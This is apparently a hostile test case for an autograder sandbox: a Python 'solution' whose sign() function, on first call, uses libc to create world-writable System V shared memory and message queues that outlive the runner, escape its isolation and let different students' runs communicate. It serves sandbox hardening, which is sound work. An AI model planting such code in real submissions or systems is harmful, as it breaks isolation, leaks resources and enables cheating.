# HOSTILE base=solution
"""Attack: leave objects behind in the host's System V IPC namespace (the runner gets new
mount and network namespaces, not a new IPC namespace): a shared memory segment and a
message queue, world-readable and -writable, under keys derived from the nonce.  Such
objects outlive every process, hold memory no rlimit accounts for once detached, and let
runners of different students (or of different grading runs) talk to each other."""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
IPC_CREAT = 0o1000
SHM_KEY = int("@@NONCE@@", 16) & 0x7FFFFFFF
MSG_KEY = SHM_KEY ^ 0x5A5A5A5
_done = []


def attack():
    notes = []
    shmid = libc.shmget(SHM_KEY, 1 << 20, IPC_CREAT | 0o666)
    if shmid >= 0:
        addr = libc.shmat(shmid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, b"HOSTILE left this here", 22)
            libc.shmdt(addr)
        notes.append(f"shm segment {shmid} (key {SHM_KEY:#x}) created")
    else:
        notes.append(f"shmget failed errno {ctypes.get_errno()}")
    msqid = libc.msgget(MSG_KEY, IPC_CREAT | 0o666)
    if msqid >= 0:
        buf = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 16)
        ctypes.c_long.from_buffer(buf).value = 1
        buf[ctypes.sizeof(ctypes.c_long):ctypes.sizeof(ctypes.c_long) + 7] = b"HOSTILE"
        libc.msgsnd(msqid, buf, 16, 0o4000)   # IPC_NOWAIT
        notes.append(f"message queue {msqid} (key {MSG_KEY:#x}) created")
    else:
        notes.append(f"msgget failed errno {ctypes.get_errno()}")
    print("HOSTILE-NOTE", "; ".join(notes))
    print("HOSTILE-DONE sysv_ipc")


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return "WRONG"
